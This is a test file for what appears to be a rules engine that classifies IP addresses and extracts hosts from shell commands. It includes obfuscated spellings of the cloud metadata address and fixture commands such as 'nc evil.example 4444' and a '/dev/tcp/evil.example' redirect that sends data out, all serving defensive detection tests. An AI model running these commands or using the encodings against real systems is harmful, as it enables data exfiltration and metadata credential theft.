import { describe, expect, it } from 'vitest';
import { classifyAddress, parseAddress } from '../../../rules/facts/network/address.ts';
import { commandFacts, factsOf, fieldOf } from './support.ts';

describe('an IP address', () => {
  it.each([
    '169.254.169.254',
    '2852039166',
    '0xa9fea9fe',
    '0xA9.0xFE.0xA9.0xFE',
    '0251.0376.0251.0376',
    '169.16689662',
    '[::ffff:169.254.169.254]',
    '[::ffff:a9fe:a9fe]',
    '169。254。169。254',
    '169.254.169.254.',
  ])('%s is the metadata service', (written) => {
    expect(parseAddress(written)).toBe('169.254.169.254');
    expect(classifyAddress('169.254.169.254')).toBe('metadata');
  });

  it.each(['example.com', '1.2.3.4.5', '256.1.1.1', 'cafe', ''])('%s is none', (written) => {
    expect(parseAddress(written)).toBeUndefined();
  });

  it.each([
    ['127.0.0.1', 'loopback'],
    ['10.1.2.3', 'private'],
    ['172.16.0.1', 'private'],
    ['192.168.0.1', 'private'],
    ['8.8.8.8', 'public'],
    ['0.0.0.0', 'unspecified'],
  ])('%s is %s', (address, kind) => {
    expect(classifyAddress(address)).toBe(kind);
  });
});

describe('the hosts of a call', () => {
  it.each([
    ['curl https://Api.Example.COM/x', 'api.example.com'],
    ['curl -sS user:pw@example.com', 'example.com'],
    ['wget http://0x7f.1/', '127.0.0.1'],
    ['git clone git@github.com:a/b.git', 'github.com'],
    ['scp a dev@host.example:/tmp', 'host.example'],
    ['nc evil.example 4444', 'evil.example'],
    ['python3 -c "import urllib.request as u; u.urlopen(\'https://x.example\')"', 'x.example'],
    ['cat a > /dev/tcp/evil.example/80', 'evil.example'],
  ])('%s', (command, host) => {
    expect(fieldOf(commandFacts(command), 'net.hosts')).toContain(host);
  });

  it('comes from tools for web pages, too', () => {
    expect(fieldOf(factsOf('WebFetch', { url: 'https://docs.rs/x', prompt: '' }), 'net.hosts')).toEqual(['docs.rs']);
  });
});
